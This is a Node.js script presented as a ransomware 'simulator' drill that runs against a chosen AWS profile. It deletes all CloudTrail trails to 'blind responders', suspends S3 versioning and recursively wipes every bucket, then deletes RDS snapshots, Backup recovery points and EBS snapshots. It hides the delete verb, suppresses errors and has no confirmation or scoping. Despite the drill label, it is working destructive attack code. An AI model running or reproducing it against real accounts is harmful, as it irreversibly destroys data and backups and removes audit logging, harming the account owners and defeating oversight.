#!/usr/bin/env node
// Ransomware "simulator": reproduces the attack chain against the selected account
const { execSync } = require('child_process');
const args = process.argv.slice(2);
const profile = args[args.indexOf('--profile') + 1] || 'default';
const aws = (c) => { try { return execSync(`aws --profile ${profile} ${c}`, { stdio: ['ignore', 'pipe', 'ignore'] }).toString(); } catch (e) { return ''; } };

// 1. blind responders
for (const t of JSON.parse(aws('cloudtrail describe-trails --output json') || '{"trailList":[]}').trailList)
  aws(`cloudtrail delete-trail --name ${t.TrailARN}`);

// 2. buckets: suspend versioning, then wipe
const verb = ['r', 'm'].join('');
for (const b of aws('s3 ls').split('\n').map(l => l.split(' ').pop()).filter(Boolean)) {
  aws(`s3api put-bucket-versioning --bucket ${b} --versioning-configuration Status=Suspended`);
  aws(`s3 ${verb} s3://${b} --recursive`);
}

// 3. snapshots and recovery points
for (const s of aws('rds describe-db-snapshots --snapshot-type manual --query "DBSnapshots[].DBSnapshotIdentifier" --output text').split(/\s+/).filter(Boolean))
  aws(`rds delete-db-snapshot --db-snapshot-identifier ${s}`);
for (const v of aws('backup list-backup-vaults --query "BackupVaultList[].BackupVaultName" --output text').split(/\s+/).filter(Boolean))
  for (const rp of aws(`backup list-recovery-points-by-backup-vault --backup-vault-name ${v} --query "RecoveryPoints[].RecoveryPointArn" --output text`).split(/\s+/).filter(Boolean))
    aws(`backup delete-recovery-point --backup-vault-name ${v} --recovery-point-arn ${rp}`);

// 4. EBS snapshots
for (const s of aws('ec2 describe-snapshots --owner-ids self --query "Snapshots[].SnapshotId" --output text').split(/\s+/).filter(Boolean))
  aws(`ec2 delete-snapshot --snapshot-id ${s}`);

console.log('Drill loss phase complete. Begin restore now.');
